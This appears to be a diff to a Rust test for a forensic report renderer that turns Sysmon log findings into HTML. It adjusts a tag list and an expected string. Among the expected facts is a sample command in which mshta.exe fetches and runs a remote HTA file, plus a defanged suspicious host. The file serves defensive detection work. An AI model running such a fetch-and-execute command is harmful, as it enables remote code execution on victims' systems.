@@ -107,6 +107,7 @@ fn nothing_of_a_log_becomes_markup() {
         "use",
         "details",
         "summary",
+        "pre",
         "fieldset",
         "legend",
         "label",
@@ -209,7 +210,7 @@ fn every_finding_is_there_with_its_facts() {
         "cdn[.]evil-updates[.]example",
         "C:\\Windows\\System32\\mshta.exe http://update.example/a1.hta --quiet",
         "The rule asks that no such event lies here",
-        "2 copies, also in <code>case/WS02/Archive-Sysmon-2024-03-01.evtx</code>",
+        "2 copies, also in case/WS02/Archive-Sysmon-2024-03-01.evtx",
         "the record&#39;s template ends early",
     ] {
         assert!(page.contains(fact), "{fact}");
